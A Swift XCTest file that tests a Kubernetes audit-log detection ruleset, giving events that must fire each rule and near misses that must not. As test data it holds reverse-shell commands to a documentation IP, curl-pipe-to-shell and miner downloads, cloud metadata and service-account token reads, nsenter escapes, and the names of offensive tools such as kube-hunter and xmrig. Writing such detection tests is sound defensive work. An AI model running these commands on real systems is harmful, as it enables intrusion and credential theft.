import XCTest
import AuditJSON
import AuditInput
@testable import AuditRules

// Tests of the default ruleset (rules/*.yaml as embedded in DefaultRules): every rule has events that
// must fire it and near misses that must not, in one table; a rule without an entry fails the test.

/// One rule's test events.
struct RuleCase {
    var rule: String
    /// Events that must fire the rule.
    var fires: [String]
    /// Near misses: events that must not fire it.
    var misses: [String]
    /// Rule text loaded after the default ruleset for this case (to fill an empty list, enable a rule).
    var overrides: String? = nil
}

// MARK: - Identities and shorthands

private let alice = "alice@example.com"
private let shopSA = "system:serviceaccount:shop:checkout"
private let shopSAGroups = ["system:serviceaccounts", "system:serviceaccounts:shop", "system:authenticated"]
private let rsController = "system:serviceaccount:kube-system:replicaset-controller"
private let dsController = "system:serviceaccount:kube-system:daemon-set-controller"
private let anonymous = "system:anonymous"
private let anonymousGroups = ["system:unauthenticated"]
private let node7 = "system:node:ip-10-0-3-7.ec2.internal"
private let nodeGroups = ["system:nodes", "system:authenticated"]

/// A request that changes an object (create/update/patch/delete...), with an optional request body.
private func change(_ verb: String, _ resource: String, _ name: String? = nil, ns: String? = "default", group: String? = nil,
                    sub: String? = nil, user: String = alice, groups: [String] = ["system:authenticated"], body: String? = nil,
                    response: String? = nil, query: String? = nil, decision: String? = "allow", code: Int? = nil) -> String {
    auditEvent(verb: verb, resource: resource, subresource: sub, namespace: ns, name: name,
               apiGroup: group, user: user, groups: groups, code: code, decision: decision, requestObject: body,
               responseObject: response, query: query)
}

/// A read request.
private func read(_ verb: String, _ resource: String, _ name: String? = nil, ns: String? = "default", group: String? = nil,
                  sub: String? = nil, user: String = alice, groups: [String] = ["system:authenticated"], decision: String? = "allow",
                  query: String? = nil, agent: String? = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
                  sourceIPs: [String] = ["10.0.4.17"]) -> String {
    auditEvent(verb: verb, resource: resource, subresource: sub, namespace: ns, name: name, apiGroup: group, user: user, groups: groups,
               decision: decision, query: query, sourceIPs: sourceIPs, userAgent: agent)
}

/// A pod creation logged at RequestResponse, as the recommended audit policy logs it.
private func podCreated(_ pod: String, user: String = alice, ns: String = "default", query: String? = nil,
                        decision: String? = "allow", code: Int? = nil) -> String {
    auditEvent(verb: "create", resource: "pods", namespace: ns, user: user,
               groups: user.hasPrefix("system:serviceaccount:") ? ["system:serviceaccounts", "system:authenticated"] : ["system:authenticated"],
               code: code, decision: decision, requestObject: pod,
               responseObject: #"{"kind":"Pod","apiVersion":"v1","metadata":{"name":"web-7c9f8b6d5-x2x4q"}}"#, query: query)
}

/// An ephemeral container added with kubectl debug (a strategic merge patch of pods/ephemeralcontainers).
private func debugContainerAdded(_ ephemeral: String, user: String = alice, verb: String = "patch", decision: String? = "allow") -> String {
    auditEvent(verb: verb, resource: "pods", subresource: "ephemeralcontainers", namespace: "default", name: "web-7c9f8b6d5-x2x4q",
               user: user, decision: decision, requestObject: #"{"spec":{"ephemeralContainers":["# + ephemeral + "]}}")
}

/// A Deployment whose pod template has the given service account.
private func deploymentObject(serviceAccount: String) -> String {
    #"{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"kube-proxy-helper","namespace":"kube-system"},"spec":{"replicas":1,"#
        + #""selector":{"matchLabels":{"app":"h"}},"template":{"metadata":{"labels":{"app":"h"}},"spec":{"serviceAccountName":"#
        + jsonString(serviceAccount) + #","containers":[{"name":"h","image":"alpine:3.20"}]}}}}"#
}

/// A request through the API server's node proxy to a kubelet path.
private func nodeProxy(_ path: String, verb: String = "get", user: String = alice, stage: String = "ResponseComplete", code: Int? = nil) -> String {
    auditEvent(verb: verb, resource: "nodes", subresource: "proxy", namespace: nil, name: "ip-10-0-3-7.ec2.internal", user: user,
               stage: stage, code: code, uri: "/api/v1/nodes/ip-10-0-3-7.ec2.internal/proxy" + path)
}

private func configMap(_ data: String) -> String {
    #"{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"app-config"},"data":"# + data + "}"
}

private func ingress(tls: Bool) -> String {
    let tlsPart = tls ? #","tls":[{"hosts":["shop.example.com"],"secretName":"shop-tls"}]"# : ""
    return #"{"kind":"Ingress","apiVersion":"networking.k8s.io/v1","metadata":{"name":"shop"},"spec":{"rules":[{"host":"shop.example.com"}]"#
        + tlsPart + "}}"
}

private let rbacGroup = "rbac.authorization.k8s.io"
private let psaViolation = ["pod-security.kubernetes.io/audit-violations":
    #"would violate PodSecurity "restricted:latest": privileged (container "app" must not set securityContext.privileged=true)"#]

// MARK: - The table

let defaultRuleCases: [RuleCase] = [
    // ---- 10-access.yaml ----
    RuleCase(rule: "Anonymous Access Allowed",
             fires: [read("list", "secrets", user: anonymous, groups: anonymousGroups),
                     auditEvent(resource: nil, user: anonymous, groups: anonymousGroups, uri: "/metrics"),
                     auditEvent(resource: nil, user: anonymous, groups: anonymousGroups, uri: "/healthzz")],
             misses: [auditEvent(resource: nil, user: anonymous, groups: anonymousGroups, uri: "/healthz"),
                      auditEvent(resource: nil, user: anonymous, groups: anonymousGroups, uri: "/readyz/etcd?verbose"),
                      auditEvent(resource: nil, user: anonymous, groups: anonymousGroups, uri: "/version"),
                      read("list", "secrets", user: anonymous, groups: anonymousGroups, decision: "forbid"),
                      read("list", "secrets")]),
    RuleCase(rule: "Anonymous Write Request",
             fires: [change("create", "pods", user: anonymous, groups: anonymousGroups, body: podObject()),
                     change("delete", "deployments", "web", group: "apps", user: anonymous, groups: anonymousGroups)],
             misses: [read("get", "pods", "web", user: anonymous, groups: anonymousGroups),
                      change("create", "pods", user: anonymous, groups: anonymousGroups, decision: "forbid"),
                      change("create", "pods", body: podObject())]),
    RuleCase(rule: "Request Forbidden",
             fires: [read("list", "secrets", ns: "kube-system", decision: "forbid"),
                     change("create", "clusterrolebindings", ns: nil, group: rbacGroup, decision: "forbid"),
                     auditEvent(verb: "list", resource: "pods", user: "system:admin", impersonatedUser: "bob", code: 403, decision: nil)],
             misses: [read("list", "secrets", ns: "kube-system"),
                      podCreated(podObject(containers: [container(privileged: true)]), code: 403),
                      auditEvent(verb: "list", resource: "secrets", stage: "RequestReceived", code: 0, decision: "forbid")]),
    RuleCase(rule: "Authentication Failed",
             fires: [auditEvent(verb: "list", resource: nil, user: nil, stage: "ResponseStarted", code: 401, decision: nil,
                                uri: "/api/v1/secrets", sourceIPs: ["198.51.100.23"])],
             misses: [read("list", "secrets", decision: "forbid"),
                      read("list", "secrets")]),
    RuleCase(rule: "Service Account Request Forbidden",
             fires: [read("get", "secrets", "db-password", user: shopSA, groups: shopSAGroups, decision: "forbid"),
                     read("list", "nodes", ns: nil, user: "system:serviceaccount:kube-system:coredns", decision: "forbid")],
             misses: [read("get", "secrets", "db-password", decision: "forbid"),
                      read("get", "secrets", "db-password", user: shopSA, groups: shopSAGroups)]),
    RuleCase(rule: "Permission Self-Review",
             fires: [change("create", "selfsubjectrulesreviews", ns: nil, group: "authorization.k8s.io"),
                     change("create", "selfsubjectaccessreviews", ns: nil, group: "authorization.k8s.io")],
             misses: [change("create", "selfsubjectrulesreviews", ns: nil, group: "authorization.k8s.io", user: shopSA, groups: shopSAGroups),
                      change("create", "subjectaccessreviews", ns: nil, group: "authorization.k8s.io"),
                      change("create", "selfsubjectaccessreviews", ns: nil, group: "authorization.k8s.io", user: "system:kube-scheduler")]),
    RuleCase(rule: "Service Account Permission Self-Review",
             fires: [change("create", "selfsubjectrulesreviews", ns: nil, group: "authorization.k8s.io", user: shopSA, groups: shopSAGroups)],
             misses: [change("create", "selfsubjectrulesreviews", ns: nil, group: "authorization.k8s.io",
                             user: "system:serviceaccount:kube-system:generic-garbage-collector"),
                      change("create", "selfsubjectrulesreviews", ns: nil, group: "authorization.k8s.io")]),
    RuleCase(rule: "Offensive Tool User Agent",
             fires: [read("list", "pods", agent: "kube-hunter/0.6.8"),
                     auditEvent(resource: nil, user: anonymous, groups: anonymousGroups, decision: "forbid", uri: "/api",
                                userAgent: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")],
             misses: [read("list", "pods"),
                      read("list", "pods", agent: nil)]),
    RuleCase(rule: "Scripted Client Read Secrets",
             fires: [read("get", "secrets", "db-password", agent: "curl/8.5.0"),
                     read("list", "secrets", ns: "shop", user: shopSA, groups: shopSAGroups, agent: "python-requests/2.31.0")],
             misses: [read("get", "secrets", "db-password"),
                      read("get", "configmaps", "app-config", agent: "curl/8.5.0"),
                      read("get", "secrets", "db-password", decision: "forbid", agent: "curl/8.5.0")]),
    RuleCase(rule: "Request From Listed Source IP",
             fires: [read("get", "pods", "web", sourceIPs: ["203.0.113.50"])],
             misses: [read("get", "pods", "web", sourceIPs: ["203.0.113.50", "10.0.0.8"]),
                      read("get", "pods", "web", sourceIPs: ["203.0.113.51"])],
             overrides: """
             - list: ah_blocked_source_ips
               items: [203.0.113.50]
               override:
                 items: append
             """),
    RuleCase(rule: "Service Account Token Used From Public IP",
             fires: [read("get", "secrets", "db-password", user: shopSA, groups: shopSAGroups, sourceIPs: ["198.51.100.23"]),
                     read("list", "pods", user: shopSA, groups: shopSAGroups, sourceIPs: ["172.32.0.9"]),
                     read("list", "pods", user: shopSA, groups: shopSAGroups, sourceIPs: ["10.0.0.1", "100.128.0.1"])],
             misses: [read("list", "pods", user: shopSA, groups: shopSAGroups, sourceIPs: ["10.0.7.12"]),
                      read("list", "pods", user: shopSA, groups: shopSAGroups, sourceIPs: ["198.51.100.23", "172.20.1.4"]),
                      read("list", "pods", user: shopSA, groups: shopSAGroups, sourceIPs: ["100.64.3.3"]),
                      read("list", "pods", user: shopSA, groups: shopSAGroups, sourceIPs: ["fd00:10:96::1"]),
                      read("list", "pods", sourceIPs: ["198.51.100.23"])]),
    RuleCase(rule: "Impersonation of Privileged Identity",
             fires: [auditEvent(verb: "list", resource: "secrets", impersonatedUser: "system:admin"),
                     auditEvent(verb: "delete", resource: "pods", name: "web", impersonatedUser: "bob",
                                impersonatedGroups: ["system:masters", "system:authenticated"]),
                     auditEvent(verb: "get", resource: "nodes", namespace: nil, impersonatedUser: node7)],
             misses: [auditEvent(verb: "list", resource: "pods", impersonatedUser: "bob", impersonatedGroups: ["devs"]),
                      auditEvent(verb: "list", resource: "secrets", impersonatedUser: "system:admin", decision: "forbid")]),
    RuleCase(rule: "Impersonation Used",
             fires: [auditEvent(verb: "list", resource: "pods", impersonatedUser: "bob")],
             misses: [read("list", "pods"),
                      auditEvent(verb: "list", resource: "pods", impersonatedUser: "bob", decision: "forbid")]),
    RuleCase(rule: "Break-Glass Account Used",
             fires: [change("create", "deployments", group: "apps", user: "kubernetes-admin", groups: ["kubeadm:cluster-admins", "system:authenticated"]),
                     change("delete", "pods", "web", user: "bob", groups: ["system:masters", "system:authenticated"]),
                     change("patch", "apiservers", "cluster", ns: nil, group: "config.openshift.io", user: "system:admin")],
             misses: [read("get", "pods", "web", user: "kubernetes-admin"),
                      change("create", "namespaces", ns: nil, user: "system:apiserver", groups: ["system:masters"])]),
    RuleCase(rule: "Unlisted User Activity",
             fires: [read("get", "pods", "web", user: "mallory")],
             misses: [read("get", "pods", "web"),
                      read("get", "pods", "web", user: shopSA, groups: shopSAGroups),
                      read("get", "pods", "web", user: node7, groups: nodeGroups)],
             overrides: """
             - rule: Unlisted User Activity
               enabled: true
             - list: ah_allowed_users
               items: [alice@example.com]
               override:
                 items: append
             """),

    // ---- 20-workloads.yaml: pod specifications ----
    RuleCase(rule: "Privileged Container Created",
             fires: [podCreated(podObject(containers: [container(privileged: true)])),
                     podCreated(podObject(containers: [container(privileged: true)], owner: ("ReplicaSet", "web-7c9f8b6d5")), user: rsController),
                     podCreated(podObject(containers: [container()], initContainers: [container("init", image: "busybox:1.36", privileged: true)])),
                     podCreated(podObject(containers: [container(privileged: true)]), ns: "kube-system"),
                     podCreated(podObject(containers: [container(image: "calico/node:v3.28.0", privileged: true)],
                                          initContainers: [container("init", image: "busybox:1.36")]), user: dsController, ns: "calico-system"),
                     debugContainerAdded(container("debugger", image: "busybox:1.36", privileged: true))],
             misses: [podCreated(podObject(containers: [container(privileged: false)])),
                      podCreated(podObject(namespace: "kube-system", containers: [container(image: "602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1.18.0", privileged: true)]),
                                 user: dsController, ns: "kube-system"),
                      podCreated(podObject(containers: [container(image: "docker.io/calico/node:v3.28.0", privileged: true)]),
                                 user: dsController, ns: "calico-system"),
                      podCreated(podObject(containers: [container(privileged: true)]), query: "dryRun=All"),
                      podCreated(podObject(containers: [container(privileged: true)]), decision: "forbid"),
                      podCreated(podObject(containers: [container(privileged: true)]), code: 403),
                      debugContainerAdded(container("debugger", image: "busybox:1.36"))]),
    RuleCase(rule: "Sensitive Host Path Mounted",
             fires: [podCreated(podObject(hostPaths: ["/etc/kubernetes/pki"])),
                     podCreated(podObject(hostPaths: ["/var/log", "/var/run/docker.sock"])),
                     podCreated(podObject(hostPaths: ["/"])),
                     podCreated(podObject(hostPaths: ["/proc"]), user: rsController)],
             misses: [podCreated(podObject(hostPaths: ["/var/log"])),
                      podCreated(podObject(hostPaths: ["/etc/ssl/certs"])),
                      podCreated(podObject(hostPaths: ["/etc/kubernetes-backup"])),
                      podCreated(podObject(containers: [container(image: "quay.io/prometheus/node-exporter:v1.8.1")], hostPaths: ["/proc", "/sys"])),
                      podCreated(podObject())]),
    RuleCase(rule: "Host Network Pod Created",
             fires: [podCreated(podObject(hostNetwork: true)),
                     podCreated(podObject(hostNetwork: true), user: rsController, ns: "shop")],
             misses: [podCreated(podObject(hostNetwork: false)),
                      podCreated(podObject(namespace: "kube-system", hostNetwork: true), user: dsController, ns: "kube-system"),
                      change("patch", "pods", "web", body: #"{"spec":{"hostNetwork":true}}"#)]),
    RuleCase(rule: "Host PID Pod Created",
             fires: [podCreated(podObject(hostPID: true))],
             misses: [podCreated(podObject(hostPID: false)),
                      podCreated(podObject(containers: [container(image: "docker.io/falcosecurity/falco:0.38.1")], hostPID: true),
                                 user: dsController, ns: "falco")]),
    RuleCase(rule: "Host IPC Pod Created",
             fires: [podCreated(podObject(hostIPC: true))],
             misses: [podCreated(podObject(hostIPC: false)),
                      podCreated(podObject(hostNetwork: true))]),
    RuleCase(rule: "Dangerous Capability Added",
             fires: [podCreated(podObject(containers: [container(capabilities: ["SYS_ADMIN"])])),
                     podCreated(podObject(containers: [container(capabilities: ["CAP_SYS_PTRACE"])])),
                     podCreated(podObject(containers: [container(capabilities: ["all"])])),
                     podCreated(podObject(initContainers: [container("init", capabilities: ["BPF"])])),
                     debugContainerAdded(container("debugger", image: "busybox:1.36", capabilities: ["SYS_PTRACE"]))],
             misses: [podCreated(podObject(containers: [container(capabilities: ["NET_BIND_SERVICE"])])),
                      podCreated(podObject(containers: [container(capabilities: ["NET_ADMIN", "NET_RAW"])])),
                      podCreated(podObject())]),
    RuleCase(rule: "Workload Created or Changed in System Namespace",
             fires: [change("create", "deployments", "kube-proxy-helper", ns: "kube-system", group: "apps", body: deploymentObject(serviceAccount: "default")),
                     change("patch", "daemonsets", "kube-proxy", ns: "kube-system", group: "apps"),
                     podCreated(podObject(namespace: "kube-public"), ns: "kube-public")],
             misses: [change("create", "deployments", ns: "shop", group: "apps"),
                      podCreated(podObject(namespace: "kube-system"), user: dsController, ns: "kube-system"),
                      change("patch", "deployments", "coredns", ns: "kube-system", group: "apps", sub: "scale"),
                      change("delete", "pods", "coredns-5d78c9869d-abcde", ns: "kube-system")]),
    RuleCase(rule: "Controller Service Account Assigned in kube-system",
             fires: [podCreated(podObject(namespace: "kube-system", serviceAccount: "clusterrole-aggregation-controller"), ns: "kube-system"),
                     change("create", "deployments", ns: "kube-system", group: "apps", body: deploymentObject(serviceAccount: "bootstrap-signer-controller"))],
             misses: [podCreated(podObject(serviceAccount: "clusterrole-aggregation-controller")),
                      podCreated(podObject(namespace: "kube-system", serviceAccount: "coredns"), ns: "kube-system"),
                      podCreated(podObject(namespace: "kube-system", serviceAccount: "daemon-set-controller"), user: dsController, ns: "kube-system")]),
    RuleCase(rule: "Pod With Known Malicious Image or Command",
             fires: [podCreated(podObject(containers: [container(image: "xmrig/xmrig:6.21.0")])),
                     podCreated(podObject(containers: [container(image: "docker.io/kalilinux/kali-rolling@sha256:0a1b2c")])),
                     podCreated(podObject(containers: [container(image: "ubuntu:24.04", args: ["--url", "stratum+tcp://pool.example:3333"])]), user: rsController),
                     debugContainerAdded(container("debugger", image: "aquasec/kube-hunter:0.6.8"))],
             misses: [podCreated(podObject()),
                      podCreated(podObject(containers: [container(image: "example.com/xmrig-exporter:1.0")])),
                      podCreated(podObject(containers: [container(image: "xmrig/xmrig:6.21.0")]), decision: "forbid")]),
    RuleCase(rule: "Pod Security Violation Recorded",
             fires: [auditEvent(verb: "create", resource: "pods", annotations: psaViolation),
                     auditEvent(verb: "create", resource: "deployments", apiGroup: "apps", annotations: psaViolation)],
             misses: [auditEvent(verb: "create", resource: "pods", annotations: ["pod-security.kubernetes.io/enforce-policy": "baseline:latest"]),
                      auditEvent(verb: "create", resource: "pods", stage: "RequestReceived", annotations: psaViolation)]),
    RuleCase(rule: "Admission Policy Violation Recorded",
             fires: [auditEvent(verb: "create", resource: "deployments", apiGroup: "apps",
                                annotations: ["validation.policy.admission.k8s.io/validation_failure":
                                    #"[{"message":"replicas must be no greater than 5","policy":"demo-policy.example.com","binding":"demo-binding","expressionIndex":1,"validationActions":["Audit"]}]"#])],
             misses: [auditEvent(verb: "create", resource: "deployments", apiGroup: "apps")]),

    // ---- 20-workloads.yaml: commands in containers ----
    RuleCase(rule: "Exec Into Pod",
             fires: [execEvent(["sh"]),
                     execEvent(["/bin/bash"], verb: "get"),
                     execEvent(["ls"], stage: "ResponseComplete", code: 400),
                     execEvent(["id"], user: shopSA, groups: shopSAGroups)],
             misses: [execEvent(["sh"], stage: "ResponseComplete"),
                      execEvent(["sh"], stage: "RequestReceived", code: nil),
                      execEvent(["sh"], stage: "ResponseComplete", code: 403, decision: "forbid"),
                      read("get", "pods", "web", sub: "log")]),
    RuleCase(rule: "Attach to Pod",
             fires: [auditEvent(verb: "create", resource: "pods", subresource: "attach", name: "web", stage: "ResponseStarted", code: 101,
                                query: "container=app&stdin=true&stdout=true&tty=true")],
             misses: [execEvent(["sh"]),
                      auditEvent(verb: "create", resource: "pods", subresource: "attach", name: "web", stage: "ResponseComplete", code: 101)]),
    RuleCase(rule: "Port Forward to Pod",
             fires: [auditEvent(verb: "create", resource: "pods", subresource: "portforward", name: "postgres-0", stage: "ResponseStarted",
                                code: 101, query: "ports=5432")],
             misses: [auditEvent(verb: "create", resource: "pods", subresource: "portforward", name: "postgres-0",
                                 stage: "ResponseComplete", code: 101),
                      auditEvent(verb: "create", resource: "pods", subresource: "portforward", name: "postgres-0", decision: "forbid")]),
    RuleCase(rule: "Exec Into System Namespace Pod",
             fires: [execEvent(["sh"], pod: "coredns-5d78c9869d-abcde", namespace: "kube-system")],
             misses: [execEvent(["sh"]),
                      execEvent(["sh"], namespace: "kube-system", user: "system:serviceaccount:kube-system:cilium-operator"),
                      execEvent(["sh"], namespace: "kube-system", stage: "ResponseComplete", code: 403, decision: "forbid")]),
    RuleCase(rule: "Ephemeral Container Added",
             fires: [debugContainerAdded(container("debugger", image: "busybox:1.36")),
                     debugContainerAdded(container("debugger", image: "busybox:1.36"), verb: "update")],
             misses: [auditEvent(verb: "get", resource: "pods", subresource: "ephemeralcontainers", name: "web"),
                      debugContainerAdded(container("debugger", image: "busybox:1.36"), decision: "forbid")]),
    RuleCase(rule: "Reverse Shell via Pod Exec",
             fires: [execEvent(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]),
                     execEvent(["nc", "-e", "/bin/sh", "203.0.113.7", "4444"]),
                     execEvent(["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f"],
                               stage: "ResponseComplete", code: 403, decision: "forbid"),
                     execEvent(["python3", "-c", "import socket,subprocess,os;s=socket.socket()"])],
             misses: [execEvent(["bash"]),
                      execEvent(["ssh", "-i", "/keys/id", "git@example.com"]),
                      execEvent(["sh", "-c", "nc -z db 5432"])]),
    RuleCase(rule: "Download via Pod Exec",
             fires: [execEvent(["sh", "-c", "curl -fsSL https://203.0.113.7/x.sh | sh"]),
                     execEvent(["wget", "http://203.0.113.7/miner", "-O", "/tmp/m"])],
             misses: [execEvent(["curl", "--version"]),
                      execEvent(["cat", "/srv/https://notes.txt"])]),
    RuleCase(rule: "Cloud Metadata Access via Pod Exec",
             fires: [execEvent(["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"]),
                     execEvent(["sh", "-c", "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"])],
             misses: [execEvent(["curl", "-s", "http://10.0.0.1/health"]),
                      read("get", "pods", "web", sub: "log", query: "container=169.254.169.254")]),
    RuleCase(rule: "Credential File Read via Pod Exec",
             fires: [execEvent(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]),
                     execEvent(["sh", "-c", "cat /proc/1/environ | tr '\\0' '\\n'"]),
                     execEvent(["cat", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"])],
             misses: [execEvent(["cat", "/etc/hostname"]),
                      execEvent(["ls", "/var/run"])]),
    RuleCase(rule: "File Copy via Pod Exec",
             fires: [execEvent(["tar", "cf", "-", "/data/export.db"]),
                     execEvent(["tar", "-xmf", "-", "-C", "/tmp"])],
             misses: [execEvent(["ls", "/data"]),
                      execEvent(["sh", "-c", "tar cf - /data"])]),
    RuleCase(rule: "Suspicious Tool Run via Pod Exec",
             fires: [execEvent(["kubectl", "get", "secrets", "-A"]),
                     execEvent(["apt-get", "install", "-y", "nmap"]),
                     execEvent(["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"])],
             misses: [execEvent(["ls", "-la"]),
                      execEvent(["cat", "kubectl.txt"])]),
    RuleCase(rule: "Kubelet Command Execution via Node Proxy",
             fires: [nodeProxy("/run/default/web-7c9f8b6d5-x2x4q/app?cmd=id", verb: "create"),
                     nodeProxy("/exec/default/web-7c9f8b6d5-x2x4q/app?command=sh&input=1&output=1&tty=1", stage: "ResponseStarted", code: 101)],
             misses: [nodeProxy("/metrics"),
                      nodeProxy("/exec/default/web/app?command=sh", stage: "ResponseComplete", code: 101),
                      execEvent(["sh"])]),
    RuleCase(rule: "Kubelet API Accessed via Node Proxy",
             fires: [nodeProxy("/pods"),
                     nodeProxy("/configz", user: shopSA)],
             misses: [nodeProxy("/metrics/cadvisor", user: "system:serviceaccount:monitoring:prometheus"),
                      nodeProxy("/stats/summary"),
                      nodeProxy("/pods", user: node7),
                      read("get", "nodes", "ip-10-0-3-7.ec2.internal", ns: nil)]),

    // ---- 20-workloads.yaml: workload objects ----
    RuleCase(rule: "Job or CronJob Created or Modified",
             fires: [change("create", "cronjobs", ns: "shop", group: "batch"),
                     change("patch", "jobs", "nightly", ns: "shop", group: "batch", user: shopSA, groups: shopSAGroups)],
             misses: [change("create", "jobs", ns: "shop", group: "batch", user: "system:serviceaccount:kube-system:cronjob-controller"),
                      change("update", "cronjobs", "nightly", ns: "shop", group: "batch", sub: "status"),
                      read("list", "cronjobs", group: "batch")]),
    RuleCase(rule: "DaemonSet Created",
             fires: [change("create", "daemonsets", ns: "shop", group: "apps")],
             misses: [change("patch", "daemonsets", "agent", ns: "shop", group: "apps"),
                      change("create", "daemonsets", ns: "shop", group: "apps", decision: "forbid")]),
    RuleCase(rule: "Workload Changed",
             fires: [change("patch", "deployments", "web", group: "apps",
                            body: #"{"spec":{"template":{"spec":{"containers":[{"name":"sidecar","image":"alpine:3.20"}]}}}}"#),
                     change("delete", "pods", "web-7c9f8b6d5-x2x4q"),
                     change("create", "pods", user: shopSA, groups: shopSAGroups)],
             misses: [change("patch", "deployments", "web", group: "apps", sub: "scale"),
                      podCreated(podObject(), user: rsController),
                      read("get", "deployments", "web", group: "apps"),
                      change("patch", "deployments", "web", group: "apps", code: 422)]),
    RuleCase(rule: "Node Created by Non-Node Identity",
             fires: [change("create", "nodes", ns: nil)],
             misses: [change("create", "nodes", ns: nil, user: node7, groups: nodeGroups),
                      change("patch", "nodes", "ip-10-0-3-7.ec2.internal", ns: nil)]),

    // ---- 30-rbac.yaml ----
    RuleCase(rule: "Binding to cluster-admin",
             fires: [change("create", "clusterrolebindings", ns: nil, group: rbacGroup,
                            body: bindingObject(role: "cluster-admin", subjects: [("User", "mallory@example.com", nil)])),
                     change("create", "rolebindings", ns: "shop", group: rbacGroup,
                            body: bindingObject(kind: "RoleBinding", role: "cluster-admin", subjects: [("ServiceAccount", "checkout", "shop")])),
                     change("patch", "clusterrolebindings", "cluster-admin", ns: nil, group: rbacGroup,
                            body: #"{"subjects":[{"kind":"User","name":"mallory@example.com"}]}"#)],
             misses: [change("create", "clusterrolebindings", ns: nil, group: rbacGroup,
                             body: bindingObject(role: "view", subjects: [("User", "bob", nil)])),
                      change("create", "clusterrolebindings", ns: nil, group: rbacGroup, user: "system:apiserver", groups: ["system:masters"],
                             body: bindingObject(name: "cluster-admin", role: "cluster-admin", subjects: [("Group", "system:masters", nil)])),
                      change("create", "clusterrolebindings", ns: nil, group: rbacGroup,
                             body: bindingObject(role: "cluster-admin", subjects: [("User", "alice@example.com", nil)]), decision: "forbid")]),
    RuleCase(rule: "Binding Grants Access to Anonymous Users",
             fires: [change("create", "clusterrolebindings", ns: nil, group: rbacGroup,
                            body: bindingObject(role: "view", subjects: [("Group", "system:unauthenticated", nil)])),
                     change("update", "rolebindings", "open", ns: "shop", group: rbacGroup,
                            body: bindingObject(kind: "RoleBinding", role: "edit", subjects: [("User", "system:anonymous", nil)]))],
             misses: [change("create", "clusterrolebindings", ns: nil, group: rbacGroup,
                             body: bindingObject(role: "view", subjects: [("Group", "system:authenticated", nil)])),
                      change("create", "clusterrolebindings", ns: nil, group: rbacGroup, user: "system:apiserver",
                             body: bindingObject(role: "system:public-info-viewer", subjects: [("Group", "system:unauthenticated", nil)]))]),
    RuleCase(rule: "Binding Grants Access to All Authenticated Users",
             fires: [change("create", "clusterrolebindings", ns: nil, group: rbacGroup,
                            body: bindingObject(role: "view", subjects: [("Group", "system:authenticated", nil)])),
                     change("create", "clusterrolebindings", ns: nil, group: rbacGroup,
                            body: bindingObject(role: "edit", subjects: [("Group", "system:serviceaccounts", nil)]))],
             misses: [change("create", "clusterrolebindings", ns: nil, group: rbacGroup,
                             body: bindingObject(role: "view", subjects: [("Group", "devs", nil)]))]),
    RuleCase(rule: "Default Service Account Granted Admin Role",
             fires: [change("create", "rolebindings", ns: "shop", group: rbacGroup,
                            body: bindingObject(kind: "RoleBinding", role: "admin", subjects: [("ServiceAccount", "default", "shop")])),
                     change("create", "clusterrolebindings", ns: nil, group: rbacGroup,
                            body: bindingObject(role: "cluster-admin", subjects: [("User", "bob", nil), ("ServiceAccount", "default", "kube-system")]))],
             misses: [change("create", "rolebindings", ns: "shop", group: rbacGroup,
                             body: bindingObject(kind: "RoleBinding", role: "admin", subjects: [("ServiceAccount", "ci", "shop")])),
                      change("create", "rolebindings", ns: "shop", group: rbacGroup,
                             body: bindingObject(kind: "RoleBinding", role: "view", subjects: [("ServiceAccount", "default", "shop")])),
                      change("create", "rolebindings", ns: "shop", group: rbacGroup,
                             body: bindingObject(kind: "RoleBinding", role: "admin", subjects: [("User", "default", nil)]))]),
    RuleCase(rule: "Role With Wildcard Permissions",
             fires: [change("create", "clusterroles", ns: nil, group: rbacGroup, body: roleObject(rules: [(["*"], ["pods"])])),
                     change("update", "roles", "ops", ns: "shop", group: rbacGroup, body: roleObject(kind: "Role", rules: [(["get"], ["*"])])),
                     change("patch", "clusterroles", "ops", ns: nil, group: rbacGroup,
                            body: #"[{"op":"add","path":"/rules/0/verbs/-","value":"*"}]"#,
                            response: roleObject(rules: [(["get", "*"], ["pods"])]))],
             misses: [change("create", "clusterroles", ns: nil, group: rbacGroup, body: roleObject(rules: [(["get", "list"], ["pods"])])),
                      change("create", "clusterroles", ns: nil, group: rbacGroup, user: "system:kube-controller-manager",
                             body: roleObject(rules: [(["*"], ["*"])])),
                      change("patch", "clusterroles", "ops", ns: nil, group: rbacGroup,
                             body: #"[{"op":"add","path":"/rules/0/verbs/-","value":"watch"}]"#,
                             response: roleObject(rules: [(["get", "watch"], ["pods"])]))]),
    RuleCase(rule: "Role Grants High-Risk Permissions",
             fires: [change("create", "clusterroles", ns: nil, group: rbacGroup, body: roleObject(rules: [(["create"], ["pods/exec"])])),
                     change("create", "roles", ns: "shop", group: rbacGroup, body: roleObject(kind: "Role", rules: [(["impersonate"], ["users"])])),
                     change("create", "roles", ns: "shop", group: rbacGroup, body: roleObject(kind: "Role", rules: [(["get", "list"], ["secrets"])])),
                     change("patch", "clusterroles", "ops", ns: nil, group: rbacGroup,
                            body: roleObject(rules: [(["create"], ["rolebindings"]), (["get"], ["pods"])])),
                     change("create", "clusterroles", ns: nil, group: rbacGroup, body: roleObject(rules: [(["get"], ["nodes/proxy"])]))],
             misses: [change("create", "clusterroles", ns: nil, group: rbacGroup, body: roleObject(rules: [(["get", "list"], ["configmaps"])])),
                      change("create", "roles", ns: "shop", group: rbacGroup, body: roleObject(kind: "Role", rules: [(["create"], ["secrets"])])),
                      change("create", "clusterroles", ns: nil, group: rbacGroup, user: "system:serviceaccount:kube-system:clusterrole-aggregation-controller",
                             body: roleObject(rules: [(["create"], ["pods/exec"])]))]),
    RuleCase(rule: "ClusterRole With Write Permissions Created",
             fires: [change("create", "clusterroles", ns: nil, group: rbacGroup, body: roleObject(rules: [(["get", "create"], ["configmaps"])]))],
